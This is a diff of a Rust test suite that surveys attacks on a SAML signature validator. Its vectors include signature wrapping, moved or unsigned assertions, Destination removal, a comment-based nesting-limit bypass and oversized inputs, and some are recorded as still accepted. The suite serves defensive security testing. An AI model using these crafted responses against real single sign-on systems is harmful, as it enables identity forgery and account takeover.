+        good.replacen(&sv, &sv.replacen("vB/Upk8e", "vB/Upk8!", 1), 1),
+        "signature_invalid",
+    ));
+    v.push(attack(
+        "SignatureValue truncated",
+        bc(),
+        good.replacen(&sv, "<ds:SignatureValue>vB/Upk8e</ds:SignatureValue>", 1),
+        "signature_invalid",
+    ));
+    v.push(attack(
+        "SignatureValue with an element inside",
+        bc(),
+        good.replacen("vB/Upk8e", "vB/U<ds:x/>pk8e", 1),
+        "ok:dana@acme.test",
+    ));
+    v.push(attack(
+        "SignatureValue empty",
+        bc(),
+        good.replacen(&sv, "<ds:SignatureValue/>", 1),
+        "signature_invalid",
+    ));
+
+    // --- where the identity is read from -------------------------------------------------------
+    v.push(attack(
+        "assertion-signed: Response Destination changed",
+        bc(),
+        good.replacen("/acs\" InResponseTo", "/evil\" InResponseTo", 1),
+        "destination_mismatch",
+    ));
+    v.push(attack(
+        "assertion-signed: Response Destination removed",
+        bc(),
+        good.replacen(
+            " Destination=\"http://127.0.0.1:3000/sso/saml/conn_01JVECTORS000000000000000/acs\" InResponseTo",
+            " InResponseTo",
+            1,
+        ),
+        "ok:dana@acme.test",
+    ));
+    v.push(attack(
+        "assertion-signed: Response InResponseTo changed",
+        bc(),
+        good.replacen("InResponseTo=\"_lanyard_req_1\">", "InResponseTo=\"_other\">", 1),
+        "in_response_to_mismatch",
+    ));
+    v.push(attack(
+        "assertion-signed: Response Issuer changed",
+        bc(),
+        good.replacen("metadata</saml:Issuer>\n  <samlp:Status>", "metadata.evil</saml:Issuer>\n  <samlp:Status>", 1),
+        "issuer_mismatch",
+    ));
+    v.push(attack(
+        "assertion-signed: Status changed to Responder",
+        bc(),
+        good.replacen("status:Success", "status:Responder", 1),
+        "status_not_success",
+    ));
+    v.push(attack(
+        "signed Assertion moved into samlp:Extensions (only Assertion)",
+        bc(),
+        good.replacen(&assertion, "", 1).replacen(
+            "<samlp:Status>",
+            &format!("<samlp:Extensions>{assertion}</samlp:Extensions><samlp:Status>"),
+            1,
+        ),
+        "ok:dana@acme.test",
+    ));
+    let rs = case("xmlsec1_response_signed");
+    let rs_xml = rs.xml.clone();
+    v.push(attack(
+        "response-signed: NameID changed",
+        case("xmlsec1_response_signed"),
+        rs_xml.replacen("dana@acme.test</saml:NameID>", "ceo@acme.test</saml:NameID>", 1),
+        "signature_invalid",
+    ));
+    v.push(attack(
+        "response-signed: Audience changed",
+        case("xmlsec1_response_signed"),
+        rs_xml.replacen("/metadata</saml:Audience>", "/x</saml:Audience>", 1),
+        "signature_invalid",
+    ));
+    v.push(attack(
+        "response-signed: unsigned evil Assertion in the Response signature's ds:Object, original removed",
+        case("xmlsec1_response_signed"),
+        {
+            let a = span(&rs_xml, "<saml:Assertion ", "</saml:Assertion>").to_owned();
+            let e = a.replace("dana@acme.test", "ceo@acme.test");
+            rs_xml
+                .replacen(&a, "", 1)
+                .replacen("</ds:Signature>", &format!("<ds:Object>{e}</ds:Object></ds:Signature>"), 1)
+        },
+        "signature_invalid",
+    ));
+    v.push(attack(
+        "EncryptedAssertion instead of the Assertion",
+        bc(),
+        good.replacen(
+            &assertion,
+            &format!("<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc=\"http://www.w3.org/2001/04/xmlenc#\"/></saml:EncryptedAssertion>"),
+            1,
+        ),
+        "encrypted_assertion",
+    ));
+    v.push(attack(
+        "EncryptedAssertion next to the signed Assertion",
+        bc(),
+        good.replacen(
+            &assertion,
+            &format!("{assertion}<saml:EncryptedAssertion/>"),
+            1,
+        ),
+        "assertion_count",
+    ));
+
+    // --- size and depth ---------------------------------------------------------------------
+    v.push(attack(
+        "129 levels of nesting",
+        bc(),
+        good.replacen("</samlp:Response>", &format!("{}{}</samlp:Response>", "<a>".repeat(129), "</a>".repeat(129)), 1),
+        "malformed",
+    ));
+    v.push(attack(
+        "nesting limit bypass with <!--> (1,000 levels; finding 2)",
+        bc(),
+        nesting_bypass(1_000),
+        "ok:dana@acme.test",
+    ));
+    v.push(attack(
+        "1 MiB of whitespace (validate has no size limit of its own)",
+        bc(),
+        good.replacen("</samlp:Response>", &format!("{}</samlp:Response>", " ".repeat(1 << 20)), 1),
+        "ok:dana@acme.test",
+    ));
+    v.push(attack(
+        "many signatures: 2,000 unsigned copies in the Response",
+        bc(),
+        good.replacen(
+            "</samlp:Response>",
+            &format!("{}</samlp:Response>", template("#_x", &std_transforms(), 1).repeat(2_000)),
+            1,
+        ),
+        "signature_invalid",
+    ));
+    v
+}
+
+#[test]
+fn attack_survey() {
+    let attacks = std::thread::Builder::new()
+        .stack_size(256 << 20)
+        .spawn(|| {
+            attacks()
+                .into_iter()
+                .map(|a| {
+                    let t = Instant::now();
+                    let got = code(&run(&a.case, &a.xml));
+                    (a.name, a.expect, got, t.elapsed())
+                })
+                .collect::<Vec<_>>()
+        })
+        .unwrap()
+        .join()
+        .unwrap();
+    let mut wrong = Vec::new();
+    for (name, expect, got, t) in &attacks {
+        eprintln!("{:<90} {:<24} {:?}", name, got, t);
+        if got != expect {
+            wrong.push(format!("{name}: expected {expect}, got {got}"));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
